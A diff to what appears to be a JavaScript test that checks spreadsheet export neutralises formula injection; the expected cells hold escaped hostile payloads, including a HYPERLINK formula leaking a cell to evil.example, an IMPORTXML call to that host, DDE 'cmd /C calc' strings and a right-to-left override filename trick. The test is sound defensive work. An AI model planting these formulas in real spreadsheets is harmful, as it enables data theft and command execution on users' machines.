@@ -199,12 +199,14 @@ describe('a story whose every field is hostile', () => {
     expect(rows.flat().filter((cell) => cell.startsWith("'"))).toEqual([
       `'=HYPERLINK("https://evil.example/?leak="&A1,"Hostile Corp")`,
       `'+cmd|' /C calc'!A0 is the role of the invented company the hostile fixture is about.`,
+      "'-2+3 invented post-money valuation",
       "'@SUM(1+1) an invented note",
       "'\t=1+1 starts with a tab: no invented source gives a revenue.",
       `'=IMPORTXML("https://evil.example/","//a")`,
       `'@SUM(1+1)*cmd|' /C calc'!A0`,
       `'\r=2+5 starts with a carriage return.`,
       "'=cmd|' /C calc'!A0 no valuation is published.",
+      "'+1 invented run-rate",
       "'-1+1 \u202etxt.exe\u202c Pay\u200bpal cloud",
     ]);
   });
